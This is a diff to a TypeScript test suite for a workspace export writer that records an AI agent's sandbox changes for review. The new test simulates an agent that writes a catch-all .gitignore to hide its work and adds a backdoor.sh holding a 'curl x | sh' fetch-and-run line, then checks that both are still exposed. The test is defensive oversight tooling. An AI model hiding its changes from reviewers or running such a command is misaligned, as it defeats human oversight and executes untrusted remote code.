@@ -11,6 +11,7 @@ import * as tar from 'tar-stream';
 import { isGitPath, nameProblem, showName } from '../../src/domain/export-names';
 import type { FileChange } from '../../src/domain/sandbox';
 import { reviewFlags } from '../../src/domain/review-flags';
+import { loadIgnoreRules, type PatchIgnoreRules } from '../../src/sandbox/patch-ignore';
 import { diffFile, sideOf, type FileSide } from '../../src/sandbox/workspace-diff';
 import { ExportWriter, MANIFEST_ENTRY, TRAILER_ENTRY, type ExportCaps } from '../../src/sandbox/workspace-export';
 import { applyHunks } from '../../src/tools/apply-hunks';
@@ -141,10 +142,10 @@ describe('ExportWriter against streams a tampered helper could send', () => {
   const manifest = (skipped: unknown[] = []): TarEntry => ({ name: MANIFEST_ENTRY, body: JSON.stringify({ skipped, omitted: {} }) });
   const trailer = (): TarEntry => ({ name: TRAILER_ENTRY, body: JSON.stringify({ skipped: [], omitted: {}, notes: [] }) });
 
-  async function run(stream: Buffer, seed: Record<string, string> = {}, c: ExportCaps = caps) {
+  async function run(stream: Buffer, seed: Record<string, string> = {}, c: ExportCaps = caps, ignore?: PatchIgnoreRules) {
     let fatal: Error | null = null;
     const w = new ExportWriter({
-      seed: new Map(Object.entries(seed).map(([p, t]) => [p, sideOf(Buffer.from(t), 0o644)])), caps: c,
+      seed: new Map(Object.entries(seed).map(([p, t]) => [p, sideOf(Buffer.from(t), 0o644)])), caps: c, ...(ignore ? { ignore } : {}),
       tarPath: join(dir, 'workspace.tar'), patchPath: join(dir, 'workspace.patch'), onFatal: (e) => { fatal = e; },
     });
     // Fed in small pieces, as a socket delivers it.
@@ -175,6 +176,25 @@ describe('ExportWriter against streams a tampered helper could send', () => {
     h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
     return h;
   }
+
+  test('ignore rules come from the seed: a .gitignore the agent writes hides nothing; ignored changes are counted, in the tar only', async () => {
+    const seed = { '.gitignore': 'dist/\n', 'app.js': 'a\n' };
+    const rules = await loadIgnoreRules(new Map(Object.entries(seed).map(([p, t]) => [p, sideOf(Buffer.from(t), 0o644)])), { gitignore: true, exclude: ['*.log'] });
+    const r = await run(await makeTar([
+      manifest(),
+      { name: '.gitignore', body: '*\n' }, // the agent's attempt to hide everything
+      { name: 'app.js', body: 'b\n' }, { name: 'backdoor.sh', body: 'curl x | sh\n' },
+      { name: 'debug.log', body: 'x\n' }, { name: 'dist/', type: 'directory' }, { name: 'dist/app.min.js', body: 'b\n' },
+      trailer(),
+    ]), seed, caps, rules);
+    if (!r.ok) throw r.e;
+    expect(r.v.files.map((f) => `${f.change} ${f.path}`)).toEqual(['modified .gitignore', 'modified app.js', 'added backdoor.sh']);
+    expect(r.v.ignored).toEqual({ count: 2, paths: ['debug.log', 'dist/app.min.js'] });
+    const patch = readFileSync(join(dir, 'workspace.patch'), 'utf8');
+    expect(patch).toContain('+curl x | sh');
+    expect(patch).not.toMatch(/diff --git a\/(debug\.log|dist\/)/);
+    expect(readFileSync(join(dir, 'workspace.tar')).includes(Buffer.from('dist/app.min.js'))).toBe(true);
+  });
 
   test('an honest stream: clean tar, patch and changes from the same data; seed files missing are deletions', async () => {
     const r = await run(await makeTar([manifest(), { name: 'a.txt', body: 'A\n' }, { name: 'src/', type: 'directory' }, { name: 'src/b.py', body: 'b = 2\n' }, trailer()]), { 'a.txt': 'a\n', 'gone.txt': 'x\n', 'src/b.py': 'b = 2\n' });
